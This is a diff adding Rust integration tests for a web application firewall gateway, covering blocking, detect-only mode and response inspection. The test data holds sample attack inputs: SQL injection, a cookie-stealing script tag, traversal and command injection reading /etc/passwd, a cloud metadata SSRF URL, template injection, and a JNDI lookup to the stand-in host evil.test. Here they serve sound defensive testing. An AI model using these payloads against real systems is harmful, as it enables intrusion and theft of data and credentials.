@@ -1,0 +1,77 @@
+//! The rules at work in the gate: both ways, and both modes.
+
+use crate::harness::{Answer, Gate, H1, Replica, h2_request};
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attacks_are_refused_wherever_they_are_and_ordinary_requests_pass() {
+    let replica = Replica::plain().await;
+    let gate = Gate::start(&[replica.address], "").await;
+    let sqli = "1%27%20UNION%20SELECT%20password%20FROM%20users--";
+    for (what, target, fields) in [
+        ("SQL injection", format!("/api/tasks?q={sqli}"), String::new()),
+        ("script", "/?x=%3Cscript%3Ealert(document.cookie)%3C/script%3E".into(), String::new()),
+        ("traversal", "/files?name=../../../../etc/passwd".into(), String::new()),
+        ("command", "/?host=127.0.0.1;cat%20/etc/passwd".into(), String::new()),
+        ("metadata address", "/fetch?url=http://169.254.169.254/latest/meta-data/".into(), String::new()),
+        ("template", "/?name=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D".into(), String::new()),
+        ("scanner", "/".into(), "user-agent: sqlmap/1.7\r\n".into()),
+        ("lookup", "/".into(), "x-api-version: ${jndi:ldap://evil.test/a}\r\n".into()),
+    ] {
+        let agent = if fields.contains("user-agent") { "" } else { "user-agent: suite\r\n" };
+        let reply = H1::tls(gate.tls)
+            .await
+            .send(format!("GET {target} HTTP/1.1\r\nhost: gate.test\r\naccept: */*\r\n{agent}{fields}\r\n"))
+            .await;
+        assert_eq!(reply.status, 403, "{what}: {target} {fields}");
+    }
+    let json = br#"{"filter": {"name": "x' OR '1'='1' -- "}}"#;
+    assert_eq!(H1::tls(gate.tls).await.post("/api/query", "application/json", json).await.status, 403);
+    assert_eq!(replica.touched(), (0, 0));
+    for target in [
+        "/",
+        "/api/tasks?q=select+a+plan+from+the+list",
+        "/api/tasks?q=C%2B%2B+%26+Rust",
+        "/api/pages/by-url?url=https%3A%2F%2Fdocs.rs%2Ftokio%2Flatest%2Ftokio%2F%3Fsearch%3Dspawn",
+        "/api/tasks?title=O%27Reilly",
+    ] {
+        let reply = h2_request(gate.tls, "GET", target, &[], Vec::new()).await;
+        assert_eq!(reply.status, 200, "{target}: {}", reply.text());
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn detect_mode_records_and_lets_pass() {
+    let replica = Replica::plain().await;
+    let gate = Gate::start(&[replica.address], "[waf]\nmode = \"detect\"\n").await;
+    let reply = H1::tls(gate.tls).await.get("/?x=%3Cscript%3Ealert(1)%3C/script%3E", "").await;
+    assert_eq!(reply.status, 200);
+    let event = gate.event(&reply).await;
+    assert_eq!(event["action"], "pass");
+    assert!(!event["rules"].as_array().unwrap().is_empty());
+    // Framing is never only recorded.
+    assert_eq!(H1::tls(gate.tls).await.send("GET /a b HTTP/1.1\r\nhost: a\r\n\r\n").await.status, 400);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_response_is_judged_before_its_head_leaves() {
+    const RULES: &str = "SecRule RESPONSE_BODY \"@contains leaked-mark\" \"id:9400,phase:4,deny,status:403,t:none,log\"\n\
+        SecRule RESPONSE_HEADERS:x-debug \"@streq on\" \"id:9401,phase:3,deny,status:403,t:none,log\"\n";
+    let replica = Replica::start(|seen| match seen.target() {
+        "/body" => Answer::ok(format!("{} leaked-mark", "x".repeat(100_000))),
+        "/head" => Answer::with(&[("content-type", "text/plain"), ("x-debug", "on")], "fine"),
+        "/binary" => Answer::with(&[("content-type", "image/png")], "leaked-mark"),
+        _ => Answer::ok("x".repeat(2_000_000)),
+    })
+    .await;
+    let gate = Gate::start_with(&[replica.address], "[waf]\nrules = \"own.conf\"\n", |dir| {
+        std::fs::write(dir.path().join("own.conf"), RULES).unwrap();
+    })
+    .await;
+    for (target, status) in [("/body", 403), ("/head", 403), ("/binary", 200), ("/large", 200)] {
+        let one = H1::tls(gate.tls).await.get(target, "").await;
+        let two = h2_request(gate.tls, "GET", target, &[], Vec::new()).await;
+        assert_eq!((one.status, two.status), (status, status), "{target}");
+        assert_eq!(one.body.len() > 1_000_000, target == "/large");
+        assert!(status == 200 || !one.text().contains("leaked-mark"));
+    }
+}
